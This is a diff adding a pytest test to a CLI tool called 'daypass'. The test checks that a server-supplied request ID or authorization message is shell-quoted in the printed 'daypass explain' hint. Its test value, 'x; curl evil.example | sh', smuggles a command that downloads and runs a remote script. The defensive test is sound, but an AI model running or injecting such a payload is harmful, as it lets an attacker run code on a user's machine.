@@ -142,6 +142,15 @@ def test_denial_says_how_to_explain_it_by_its_request_id(cli: Callable, serve: C
     assert cli("sessions", "ls").err.splitlines()[1] == "daypass: to see why: daypass explain abc"
 
 
+@pytest.mark.usefixtures("key")
+@pytest.mark.parametrize("member", ["request_id", "encoded_authorization_message"])
+def test_a442_command_to_paste_holds_no_command_of_the_server(cli: Callable, serve: Callable, member: str) -> None:
+    body = {"code": "AccessDenied", "message": "no", "request_id": "", member: "x; curl evil.example | sh"}
+    serve(as_json({"error": body}, 403))
+    hint = "daypass: to see why: daypass explain 'x; curl evil.example | sh'"
+    assert cli("sessions", "ls").err.splitlines()[1] == hint
+
+
 def test_nothing_known_is_a_local_failure(cli: Callable) -> None:
     ran = cli("whoami")
     assert (ran.status, ran.err.count("\n")) == (6, 1)
